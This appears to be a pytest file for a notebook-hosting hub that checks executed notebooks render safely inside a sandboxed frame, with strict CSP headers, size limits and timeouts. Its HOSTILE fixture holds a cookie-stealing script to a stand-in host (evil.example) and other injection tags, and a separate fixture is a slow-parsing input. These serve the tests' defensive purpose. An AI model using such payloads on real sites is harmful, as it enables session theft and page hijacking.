"""An executed notebook on its page: it stays in its frame, whatever is in it and however long it takes."""

from __future__ import annotations

import asyncio
import re
import threading
import time
from typing import Any

import httpx
import psutil
import pytest
from fastapi import FastAPI

from dure_hub.operations import Operations
from dure_hub.services.guard import Guard
from dure_hub.services.pages import notebooks
from dure_hub.services.places import BASE
from tests.unit.services.conftest import Browser
from tests.unit.services.schedule_kit import FRAME, PLACE, cell, leave, notebook, ran, schedule, v4
from tests.unit.services.test_routes import guards, routes

__all__ = ["schedule"]

HOSTILE = (
    "<script>fetch('https://evil.example/'+document.cookie)</script><img src='https://evil.example/x.png'>"
    "<LINK rel=preconnect href='https://evil.example'><meta http-equiv=refresh content='0;url=https://evil.example'>"
    "<iframe src='https://evil.example/'></iframe><object data='https://evil.example/'></object>"
    "<base href='https://evil.example/'><form action='/hub/logout'><button>go</button></form>"
)


def shown(data: dict[str, str]) -> Any:
    """An output."""
    return v4.new_output("display_data", data)


async def test_only_a_page_that_frames_may_frame(anyone: httpx.AsyncClient, ana: Browser, schedule: str) -> None:
    for path in (PLACE, f"{PLACE}/nightly", f"{BASE}/", f"{BASE}/spawn"):
        answer = await anyone.get(path, headers=ana.navigate())
        assert answer.status_code == 200
        assert "frame-src" not in answer.headers["content-security-policy"]


async def test_a_hostile_notebook_stays_in_its_frame(
    anyone: httpx.AsyncClient, ops: Operations, ana: Browser, schedule: str
) -> None:
    await ran(anyone, ana)
    outputs = [
        shown({"text/html": HOSTILE, "text/plain": "plain"}),
        shown({"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"}),
        v4.new_output("stream", name="stdout", text="\x1b[31mred\x1b[0m <script>\n"),
    ]
    text = notebook(v4.new_markdown_cell("# Heading\n\n" + HOSTILE), cell("print('code') # <script>", *outputs))
    await leave(ops, 1, text, state="succeeded", ended_at=ops.clock())
    answer = await anyone.get(f"{PLACE}/nightly/1/notebook", headers=ana.navigate() | FRAME)
    assert answer.status_code == 200
    assert answer.headers["content-type"].startswith("text/html")
    directives = dict(
        [*part.split(" ", 1), ""][:2] for part in answer.headers["content-security-policy"].split("; ")
    )
    assert directives == {
        "sandbox": "",  # no word in it: no scripts, no origin, no forms, no way out of the frame
        "default-src": "'none'",
        "style-src": "'unsafe-inline'",
        "img-src": "data:",
        "font-src": "data:",
        "base-uri": "'none'",
        "form-action": "'none'",
        "frame-ancestors": "'self'",
    }
    assert answer.headers["x-frame-options"] == "SAMEORIGIN"
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert "cross-origin-opener-policy" not in answer.headers  # beside a sandbox it would make an error of a visit
    assert not re.search(r"<(link|meta http-equiv|base|iframe|object)\b", answer.text, re.IGNORECASE)
    assert "set-cookie" not in answer.headers
    assert '<span class="ansi-red-fg">red</span> &lt;script&gt;' in answer.text
    assert "Heading" in answer.text
    assert (
        '<img alt="No description has been provided for this image" src="data:image/svg+xml;base64,' in answer.text
    )


async def test_the_frames_document_answers_a_frame_and_a_window_and_no_script(
    anyone: httpx.AsyncClient, ops: Operations, ana: Browser, schedule: str
) -> None:
    await ran(anyone, ana)
    await leave(ops, 1, notebook(cell("1")), state="succeeded", ended_at=ops.clock())
    where = f"{PLACE}/nightly/1/notebook"
    for kind, status in (("iframe", 200), ("document", 200), ("empty", 403), ("embed", 403), ("object", 403)):
        answer = await anyone.get(where, headers=ana.navigate() | {"Sec-Fetch-Dest": kind})
        assert answer.status_code == status, kind
    for path in (PLACE, f"{PLACE}/nightly", f"{PLACE}/nightly/1", f"{PLACE}/nightly/1/download", f"{BASE}/"):
        answer = await anyone.get(path, headers=ana.navigate() | FRAME)
        assert answer.status_code == 403, path


def test_two_routes_alone_may_be_framed(app: FastAPI) -> None:
    framed = [
        path
        for path, route in routes(app)
        for guard in guards(route.dependant)
        if isinstance(guard, Guard) and guard.framed
    ]
    assert framed == [f"{PLACE}/{{name}}/{{number}}/notebook", f"{BASE}/shared/{{share}}/notebook"]


@pytest.mark.parametrize("text", ["no json", "[]", '{"cells": 3}', '{"nbformat": 4, "nbformat_minor": 5}'])
async def test_what_is_no_notebook_is_a_sentence(
    anyone: httpx.AsyncClient, ops: Operations, ana: Browser, schedule: str, text: str
) -> None:
    await ran(anyone, ana)
    await leave(ops, 1, text, state="failed", ended_at=ops.clock())
    answer = await anyone.get(f"{PLACE}/nightly/1/notebook", headers=ana.navigate() | FRAME)
    assert "no notebook that can be shown" in answer.text
    assert answer.headers["content-security-policy"] == notebooks.POLICY


async def test_a_notebook_that_is_not_there_is_a_sentence_in_the_frame(
    anyone: httpx.AsyncClient, ana: Browser, schedule: str
) -> None:
    await ran(anyone, ana)
    for number, words in ((1, "no notebook named"), (7, "no execution named")):
        where = f"{PLACE}/nightly/{number}/notebook"
        answer = await anyone.get(where, headers=ana.navigate() | FRAME)
        assert answer.status_code == 404
        assert words in answer.text
        assert answer.headers["content-security-policy"] == notebooks.POLICY


async def test_a_large_notebook_is_shown_in_part_and_a_huge_one_not() -> None:
    rows = "<tr><td>1</td></tr>" * 100_000
    text = notebook(
        cell("1", shown({"text/html": f"<table>{rows}</table>", "text/plain": "a frame of 100000 rows"})),
        cell("2", v4.new_output("stream", name="stdout", text="line\n" * 1_000_000)),
        cell("3", shown({"image/png": "iVBORw0KGgo=" * 100_000, "text/plain": "<Figure>"})),
        *(cell("x" * 100_000) for _ in range(20)),
    )
    made = await notebooks.Notebooks().document(text.encode(), "en")
    assert "a frame of 100000 rows" in made
    assert "<td>" not in made
    assert "too long to show" in made
    assert "data:image/png;base64," in made
    assert "&lt;Figure&gt;" not in made
    assert len(made) < 3_000_000
    assert "Download it instead" in await notebooks.Notebooks().document(b" " * (notebooks.LIMIT + 1), "en")


def converting() -> list[psutil.Process]:
    """The converters that this process has started; fixtures have children of their own."""
    return [one for one in psutil.Process().children() if "dure_hub.shown_notebook" in one.cmdline()]


async def test_a_notebook_that_takes_for_ever_is_given_up_and_nobody_waits_for_it(
    anyone: httpx.AsyncClient, ops: Operations, ana: Browser, schedule: str
) -> None:
    await ran(anyone, ana)
    hostile = notebook(v4.new_markdown_cell("[" * 140_000))
    await leave(ops, 1, hostile, state="succeeded", ended_at=ops.clock())
    began = time.monotonic()
    where = f"{PLACE}/nightly/1/notebook"
    viewers = [anyone.get(where, headers=ana.navigate() | FRAME) for _ in range(20)]
    waiting = asyncio.gather(*viewers)
    assert (await anyone.get(f"{PLACE}/nightly/1", headers=ana.navigate())).status_code == 200
    threads = [name for name in (thread.name for thread in threading.enumerate()) if "asyncio" in name]
    answers = await waiting
    assert time.monotonic() - began < notebooks.WALL_S + 5
    assert {answer.status_code for answer in answers} == {200}
    assert "takes too long to show here. Download it instead." in answers[0].text
    assert len(threads) < 20, "no viewer holds a thread"
    assert not converting()


async def test_converting_ends_by_the_clock_too_and_leaves_no_process(monkeypatch: pytest.MonkeyPatch) -> None:
    text = notebook(cell("1")).encode()
    monkeypatch.setattr(notebooks, "WALL_S", 0.01)
    assert await notebooks._converted(text, "cut") is None, "no program starts as quickly"
    assert not converting()
    monkeypatch.undo()
    assert await notebooks._converted(text, "cut") is not None


async def test_a_notebook_is_converted_once_and_too_many_at_once_are_told_to_come_back(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    go, began = asyncio.Event(), 0

    async def slowly(content: bytes, cut: str) -> tuple[int, str]:
        nonlocal began
        began += 1
        await go.wait()
        return 0, content.decode()

    monkeypatch.setattr(notebooks, "_converted", slowly)
    desk = notebooks.Notebooks()
    first = [asyncio.create_task(desk.document(b"0", "en")) for _ in range(10)]
    others = [asyncio.create_task(desk.document(str(number).encode(), "en")) for number in range(1, 9)]
    done, _ = await asyncio.wait(others, timeout=5, return_when=asyncio.FIRST_EXCEPTION)
    refused = [task for task in done if isinstance(task.exception(), notebooks.Busy)]
    assert refused
    assert began == 1, "one at a time"
    first.pop().cancel()  # who leaves takes it from nobody else
    go.set()
    assert all("<body>0</body>" in text for text in await asyncio.gather(*first))
    told = await asyncio.gather(*others, return_exceptions=True)
    assert len([text for text in told if isinstance(text, str)]) == len(others) - len(refused)
    before = began
    assert "<body>0</body>" in await desk.document(b"0", "en")
    assert began == before
    for language in ("en", "ko"):
        assert notebooks.Busy().text(language)
